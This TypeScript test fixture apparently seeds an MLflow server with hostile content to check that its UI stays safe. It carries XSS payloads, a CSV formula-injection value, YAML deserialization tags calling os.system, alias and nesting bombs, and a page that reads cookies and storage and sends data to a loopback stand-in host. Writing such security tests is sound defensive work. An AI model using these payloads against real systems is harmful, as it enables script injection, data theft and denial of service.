import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { clientsOf, upload } from './seed.js'

/** Texts that would run code if they were treated as markup. */
export const MARKUP = '<img src=x onerror=hit()>'

export type HostileRun = Awaited<ReturnType<typeof seedHostileRun>>

/** Logs a run with markup in every text, next to a harmless one. `elsewhere` is the server that it tries to reach. */
export async function seedHostileRun(baseUrl: string, { address: elsewhere, stunAddress }: Elsewhere) {
  const { experiments, runs, loggedModels, registeredModels, modelVersions, views } = clientsOf(baseUrl)
  const { experimentId } = await experiments.createExperiment({
    name: `${MARKUP} experiment`,
    tags: [{ key: 'mlflow.note.content', value: note(elsewhere) }],
  })
  const addRun = async (runName: string, value: string) => {
    const { run } = await runs.createRun({ experimentId, userId: MARKUP, runName, startTime: Date.now(), tags: [] })
    const { runId } = run.info
    await runs.logBatch({
      runId,
      params: [
        { key: 'markup', value },
        { key: 'emphasis', value: value === MARKUP ? '<b>bold</b>' : 'plain' },
      ],
      metrics: Array.from({ length: 3 }, (_, step) => ({ key: 'loss', value: 1 / (step + 1), timestamp: step, step })),
      tags: [
        { key: 'team', value },
        { key: 'mlflow.source.name', value: `/home/${value}` },
        { key: 'mlflow.source.git.commit', value },
        { key: 'mlflow.user', value },
        { key: 'mlflow.note.content', value: note(elsewhere) },
      ],
    })
    return runId
  }
  const tameId = await addRun('tame', 'tame')
  const formulaId = await addRun('=HYPERLINK("http://x")', '-1+cmd')
  const runId = await addRun(`${MARKUP} run`, MARKUP)
  await runs.logInputs({
    runId,
    datasets: [
      {
        tags: [{ key: 'mlflow.data.context', value: MARKUP }],
        dataset: { name: `${MARKUP} data`, digest: '<b>1</b>', sourceType: MARKUP, source: MARKUP },
      },
    ],
    models: [],
  })
  await loggedModels.createLoggedModel({
    experimentId,
    name: `${MARKUP} model`,
    modelType: '',
    sourceRunId: runId,
    params: [{ key: 'markup', value: MARKUP }],
    tags: [],
  })
  // Names of registered models cannot contain slashes and colons.
  const registered = `${MARKUP} registered`
  const tags = [{ key: 'markup', value: MARKUP }]
  await registeredModels.createRegisteredModel({ name: registered, tags, description: note(elsewhere) })
  await modelVersions.createModelVersion({
    name: registered,
    source: `s3://bucket/${MARKUP}`,
    runId,
    modelId: '',
    tags,
    runLink: 'javascript:hit()',
    description: note(elsewhere),
  })
  await views.createView({ experimentId, name: `${MARKUP} view`, scope: 'everyone', isDefault: false, state: {} })
  const files = {
    [`${MARKUP}.txt`]: MARKUP,
    'table.csv': `${MARKUP},b\n${MARKUP},2\n`,
    'note.md': note(elsewhere),
    'notebook.ipynb': JSON.stringify(notebook()),
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="hit()"><script>hit()</script><image href="${elsewhere}/in.svg"/><rect width="8" height="8"/></svg>`,
    'page.html': page(elsewhere, stunAddress),
    'function/MLmodel': `flavors:\n  python_function:\n    loader: !!js/function 'function () { hit() }'\n    other: !<tag:yaml.org,2002:js/undefined> ''\nrun_id: !!python/object/apply:os.system ["true"]\n`,
    'aliases/MLmodel': aliases(),
    'deep/MLmodel': `flavors: ${'['.repeat(500_000)}`,
    'keys/MLmodel': Array.from({ length: 100_000 }, (_, i) => `k${i}:`).join('\n'),
    'huge/MLmodel': 'a: b\n'.repeat(10 * 1024 * 1024),
    'leaving.html': `<script>location = '${elsewhere}/left'</script>`,
  }
  for (const [path, body] of Object.entries(files)) await upload(baseUrl, `${experimentId}/${runId}`, path, body)
  return { experimentId, runId, tameId, formulaId, registered }
}

/** Markdown with scripts, frames, external images and script links. */
function note(elsewhere: string): string {
  return [
    'before',
    '[a link](javascript:hit())',
    '[data](data:text/html,<script>hit()</script>)',
    `![picture](${elsewhere}/in-a-note.png)`,
    '<script>hit()</script>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<svg onload=hit()></svg>',
    `<img src="${elsewhere}/raw.png" onerror=hit()>`,
    MARKUP,
    'after',
  ].join('\n\n')
}

/** Nine levels of nine references each: 387 million texts if they were expanded. */
function aliases(): string {
  const levels = Array.from({ length: 9 }, (_, level) => {
    const items = level === 0 ? '"lol"' : `*a${level - 1}`
    return `a${level}: &a${level} [${Array(9).fill(items).join(', ')}]`
  })
  return `${levels.join('\n')}\nflavors: *a8\n`
}

function notebook() {
  const output = (data: Record<string, string>) => ({ output_type: 'display_data', metadata: {}, data })
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      { cell_type: 'markdown', metadata: {}, source: MARKUP },
      {
        cell_type: 'code',
        metadata: {},
        source: 'print(1)',
        execution_count: 1,
        outputs: [output({ 'text/html': MARKUP }), output({ 'application/javascript': 'hit()' })],
      },
    ],
  }
}

/** A page that tries every way to escape its sandbox and records the outcomes. */
function page(elsewhere: string, stunAddress: string): string {
  return `<!doctype html><title>page</title><img src="${elsewhere}/in-a-page.png"><link rel="stylesheet" href="${elsewhere}/style.css">
<pre id="log"></pre><form action="${elsewhere}/form" method="post"><input name="a" value="1"></form>
<script>
const attempts = {
  parent: () => parent.document.title,
  hit: () => parent.hit(),
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  indexedDB: () => new Promise((resolve, reject) => { const asked = indexedDB.open('a'); asked.onsuccess = () => resolve('opened'); asked.onerror = () => reject(asked.error) }),
  api: () => fetch('/api/2.0/mlflow/experiments/search?max_results=1').then((answer) => answer.text()),
  elsewhere: () => fetch('${elsewhere}/fetched').then((answer) => answer.text()),
  socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = () => reject(new Error('refused')) }),
  worker: () => new Promise((resolve, reject) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = resolve; worker.onerror = () => reject(new Error('refused')) }),
  popup: () => { if (open('${elsewhere}/popup') === null) throw new Error('refused') },
  top: () => { top.location = '${elsewhere}/top' },
  frame: () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.onload = () => frame.contentDocument === null ? reject(new Error('refused')) : resolve(); frame.src = '${elsewhere}/frame'; document.body.append(frame) }),
  stun: async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: '${stunAddress}' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(); await new Promise((resolve) => setTimeout(resolve, 500)); throw new Error('told by the listener') },
  alert: () => { if (!confirm('?')) throw new Error('refused') },
}
const ended = {}
const all = Object.entries(attempts).map(async ([name, attempt]) => {
  try { await attempt(); ended[name] = 'done' } catch (error) { ended[name] = 'refused' }
})
document.forms[0].submit()
navigator.sendBeacon('${elsewhere}/beacon', 'x')
Promise.race([Promise.all(all), new Promise((resolve) => setTimeout(resolve, 3000))]).then(() => {
  document.getElementById('log').textContent = JSON.stringify(ended)
})
</script>`
}

export type Elsewhere = Awaited<ReturnType<typeof startElsewhere>>

/** Stands in for a foreign machine, on the loopback: counts TCP connections and UDP packets. */
export async function startElsewhere() {
  const came: string[] = []
  const web = createServer((request, response) => {
    came.push(`${request.method} ${request.url}`)
    response.end()
  })
  web.on('connection', () => came.push('connection'))
  const stun = createSocket('udp4').on('message', () => came.push('datagram'))
  await Promise.all([once(web.listen(0, '127.0.0.1'), 'listening'), once(stun.bind(0, '127.0.0.1'), 'listening')])
  return {
    address: `http://127.0.0.1:${(web.address() as AddressInfo).port}`,
    stunAddress: `stun:127.0.0.1:${stun.address().port}`,
    /** Everything that reached it. */
    came: came as readonly string[],
    stop() {
      stun.close()
      web.closeAllConnections()
      web.close()
    },
  }
}
